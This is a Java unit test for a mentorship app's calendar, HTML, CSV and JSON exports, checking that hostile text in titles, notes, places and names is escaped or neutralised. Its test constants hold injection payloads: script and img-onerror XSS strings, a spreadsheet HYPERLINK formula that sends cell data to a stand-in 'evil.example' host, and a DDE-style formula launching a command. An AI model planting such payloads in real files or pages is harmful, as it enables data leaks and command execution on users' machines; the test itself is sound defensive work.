package org.mentorplanner.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDateTime;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import net.fortuna.ical4j.data.CalendarBuilder;
import net.fortuna.ical4j.model.Calendar;
import net.fortuna.ical4j.model.Parameter;
import net.fortuna.ical4j.model.Property;
import net.fortuna.ical4j.model.component.VEvent;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.mentorplanner.domain.EnrollmentMethod;
import org.mentorplanner.domain.MentorshipSession;
import org.mentorplanner.domain.Person;
import org.mentorplanner.domain.Role;
import org.mentorplanner.domain.SessionDetails;
import org.mentorplanner.service.DirectoryService;
import org.mentorplanner.service.ExportFormat;
import org.mentorplanner.service.ExportRequest;
import org.mentorplanner.service.WorkProgress;

/** Titles, notes, places and names full of markup, quotes, formulas, line breaks, emoji and right-to-left text. */
class HostileTextExportTest {

    static final String TITLE = "<script>alert(\"pwned\")</script> & 'quotes' 😀 שלום עולם";
    static final String NOTES = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")\nsecond line, with \"quotes\"\r\nمرحبا 👋🏽 <img src=x onerror=alert(1)>";
    static final String PLACE = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MENTOR_NAME = "Zoë \"<b>O'Brien</b>\" -טל";

    @TempDir
    Path folder;

    private ExportWorld world;
    private MentorshipSession session;
    private Person mentor;

    @BeforeEach
    void setUp() {
        world = new ExportWorld(folder);
        mentor = world.directory.savePerson(new DirectoryService.PersonInput("zoe@example.org", MENTOR_NAME, Set.of(Role.MENTOR), Set.of()));
        session = world.publish(new SessionDetails(mentor.id(), null, world.berlin.id(), LocalDateTime.parse("2026-12-01T10:00"),
                Duration.ofMinutes(30), EnrollmentMethod.BOTH, "https://meet.example.org/x?a=1&b=2", PLACE, Set.of(), TITLE, NOTES));
    }

    @AfterEach
    void tearDown() {
        world.close();
    }

    private Path export(ExportFormat format) {
        Path out = folder.resolve(format.label());
        world.exports.export(ExportRequest.of(format, out), WorkProgress.none());
        return out;
    }

    @Test
    void icsKeepsHostileTextIntactAndValid() throws Exception {
        String text = Files.readString(export(ExportFormat.ICS).resolve("booking-links.ics"));
        Calendar calendar = new CalendarBuilder().build(new StringReader(text));

        assertThat(calendar.validate().hasErrors()).isFalse();
        VEvent event = calendar.<VEvent>getComponents("VEVENT").getFirst();
        assertThat(event.getSummary().orElseThrow().getValue()).isEqualTo(TITLE);
        assertThat(event.getDescription().orElseThrow().getValue()).startsWith(NOTES.replace("\r\n", "\n"));
        assertThat(event.getLocation().orElseThrow().getValue()).isEqualTo(PLACE + ", Berlin office");
        assertThat(event.getProperty(Property.ORGANIZER).orElseThrow().getParameter(Parameter.CN).orElseThrow().getValue())
                .isEqualTo(MENTOR_NAME);
        assertThat(text.lines()).allSatisfy(line -> assertThat(line.getBytes(StandardCharsets.UTF_8).length)
                .isLessThanOrEqualTo(75 + 1));
    }

    @Test
    void htmlEscapesEveryTextAndRunsOnlyItsOwnScript() throws Exception {
        Path out = export(ExportFormat.HTML);
        String page = Files.readString(out.resolve(HtmlExporter.pageOf(mentor)));
        String index = Files.readString(out.resolve(HtmlExporter.INDEX));

        assertThat(page).contains(HtmlText.escape(TITLE)).contains(HtmlText.escape(NOTES))
                        .contains(HtmlText.escape(PLACE)).contains(HtmlText.escape(MENTOR_NAME));
        assertThat(HtmlText.escape(TITLE)).contains("&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt; &amp; &#39;quotes&#39; 😀 שלום עולם");
        assertThat(page).doesNotContain("<script>alert").doesNotContain("<img").doesNotContain("<b>");
        assertThat(page.split("<script", -1)).as("only the viewer-time script").hasSize(2);
        assertThat(index).contains(HtmlText.escape(MENTOR_NAME)).doesNotContain("<b>").doesNotContain("<script");
    }

    @Test
    void csvNeutralisesFormulasAndQuotesFields() throws Exception {
        String text = Files.readString(export(ExportFormat.CSV).resolve("booking-links.csv"));
        List<List<String>> rows = TestFormats.csv(text);

        assertThat(rows).hasSize(2);
        Map<String, String> row = new HashMap<>();
        for (int i = 0; i < CsvExporter.COLUMNS.size(); i++) {
            row.put(CsvExporter.COLUMNS.get(i), rows.get(1).get(i));
        }
        assertThat(rows.get(1)).hasSameSizeAs(CsvExporter.COLUMNS);
        assertThat(row.get("title")).isEqualTo(TITLE);
        assertThat(row.get("notes")).isEqualTo("'" + NOTES);
        assertThat(row.get("place")).isEqualTo("'" + PLACE);
        assertThat(row.get("mentor_name")).isEqualTo(MENTOR_NAME);
        assertThat(row.get("booking_url")).isEqualTo("https://mentoring.example.org/book/" + session.bookingToken());
        assertThat(rows.get(1)).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
    }

    @Test
    void jsonEscapesAndReadsBackIntact() throws Exception {
        String text = Files.readString(export(ExportFormat.JSON).resolve("booking-links.json"));

        assertThat(text).doesNotContain("<script>").doesNotContain("<img");
        @SuppressWarnings("unchecked")
        Map<String, Object> document = (Map<String, Object>) TestFormats.json(text);
        @SuppressWarnings("unchecked")
        Map<String, Object> first = ((List<Map<String, Object>>) document.get("sessions")).getFirst();
        assertThat(first.get("title")).isEqualTo(TITLE);
        assertThat(first.get("notes")).isEqualTo(NOTES);
        assertThat(first.get("place")).isEqualTo(PLACE);
        assertThat(first.get("mentor")).isEqualTo(Map.of("name", MENTOR_NAME, "email", "zoe@example.org"));
    }
}
